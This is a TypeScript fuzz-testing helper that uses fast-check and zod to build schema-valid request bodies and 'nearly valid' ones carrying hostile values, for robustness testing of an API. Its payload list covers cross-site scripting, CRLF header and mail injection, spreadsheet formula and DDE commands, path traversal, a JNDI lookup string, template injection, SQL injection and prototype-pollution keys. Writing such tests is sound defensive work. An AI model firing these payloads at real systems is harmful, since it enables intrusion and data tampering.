import fc from 'fast-check'
import * as z from 'zod'

/*
 * Bodies that a schema allows, and bodies that only nearly are such.
 */

type Schema = Readonly<Record<string, unknown>>
const Schema = z.record(z.string(), z.unknown())
const Schemas = z.array(Schema)

/** In every hostile text, so that wherever it comes back it is known. */
export const mark = 'Hostile'

/** What breaks parsers, pages, headers, mails, spreadsheets, keys and stores. */
export const hostileTexts: readonly string[] = [
  `${mark}<script>alert(1)</script>`,
  `"'><img src=x onerror=${mark}>`,
  `${mark}\r\nSet-Cookie: session=stolen`,
  `${mark}\r\nBcc: everybody@example.org\r\n\r\nmail`,
  `${mark}\u0000after`,
  `${mark}\ud800lone`,
  `=HYPERLINK("https://example.org/${mark}")`,
  `@SUM(1+1)*cmd|' /C ${mark}'!A0`,
  `../../../../etc/${mark}`,
  `%00%0d%0a${mark}`,
  `\${jndi:ldap://example.org/${mark}}`,
  `{{constructor.constructor('${mark}')()}}`,
  `' OR 1=1; -- ${mark}`,
  `\u202e${mark}\u200b\ufeff`,
  `${mark}${'x'.repeat(5000)}`,
  `${mark}${'é'.repeat(1500)}`,
  `REPORT#${mark}#`,
  '__proto__',
  'constructor',
  'toString',
  '',
  ' ',
]

export const hostileText = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...hostileTexts) },
  fc.string({ unit: 'binary', maxLength: 200 }).map(text => mark + text),
)

/** What is no text at all. */
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileText },
  fc.constantFrom<unknown>(null, true, false, 0, -1, 1e308, 2 ** 53, [], {}, [[]], [null], { toString: mark }),
  fc.array(hostileText, { maxLength: 3 }),
  fc.dictionary(fc.constantFrom('length', 'then', 'toJSON', '$gt', mark), hostileText, { maxKeys: 2 }),
)

/** Whatever the schema allows. */
export function valid(schema: Schema): fc.Arbitrary<unknown> {
  const { type } = schema
  if (Array.isArray(schema.enum)) return fc.constantFrom(...z.array(z.unknown()).parse(schema.enum))
  if ('const' in schema) return fc.constant(schema.const)
  const either = schema.anyOf ?? schema.oneOf
  if (either) return fc.oneof(...Schemas.parse(either).map(valid))
  if (type === 'object') return validObject(schema)
  if (type === 'array') return fc.array(valid(Schema.parse(schema.items)), { minLength: 0, maxLength: 3 })
  if (type === 'integer' || type === 'number') return fc.integer({ min: 0, max: 50 })
  if (type === 'boolean') return fc.boolean()
  return type === 'string' ? validText(schema) : fc.constant(undefined)
}

function validObject({ properties = {}, required = [] }: Schema): fc.Arbitrary<unknown> {
  const fields = Object.entries(Schema.parse(properties)).map(([name, of]) => [name, valid(Schema.parse(of))] as const)
  return fc.record(Object.fromEntries(fields), { requiredKeys: z.array(z.string()).parse(required) })
}

const byFormat: Readonly<Record<string, fc.Arbitrary<string>>> = {
  uuid: fc.uuid(),
  date: fc
    .date({ min: new Date('2020-01-01'), max: new Date('2035-12-31'), noInvalidDate: true })
    .map(day => day.toISOString().slice(0, 10)),
  'date-time': fc
    .date({ min: new Date('2020-01-01'), max: new Date('2035-12-31'), noInvalidDate: true })
    .map(day => day.toISOString()),
  email: fc.constantFrom('somebody@example.org', 'a.b+c@sub.example.org'),
}

function validText({ format, pattern, maxLength }: Schema): fc.Arbitrary<string> {
  const known = typeof format === 'string' ? byFormat[format] : undefined
  if (known) return known
  if (typeof pattern === 'string') return fc.stringMatching(new RegExp(pattern))
  return fc.string({ unit: 'grapheme', maxLength: typeof maxLength === 'number' ? Math.min(maxLength, 300) : 60 })
}

/** A body that is allowed, but for one or two fields. */
export function nearly(schema: Schema): fc.Arbitrary<Readonly<Record<string, unknown>>> {
  const names = Object.keys(Schema.parse(schema.properties ?? {}))
  const name = fc.constantFrom(...names, mark, '__proto__', 'constructor', 'prototype', 'toString', 'lang', 'language')
  const changes = fc.array(fc.tuple(name, hostileValue), { minLength: 1, maxLength: 2 })
  return fc.tuple(valid(schema), changes).map(([body, changed]) => {
    const own = z.record(z.string(), z.unknown()).safeParse(body).data ?? {}
    return Object.fromEntries([...Object.entries(own), ...changed])
  })
}

/** The same as a form would send it. */
export function asForm(body: Readonly<Record<string, unknown>>): URLSearchParams {
  const form = new URLSearchParams()
  for (const [name, value] of Object.entries(body)) {
    for (const one of Array.isArray(value) ? value : [value])
      form.append(name, typeof one === 'string' ? one : String(JSON.stringify(one)))
  }
  return form
}
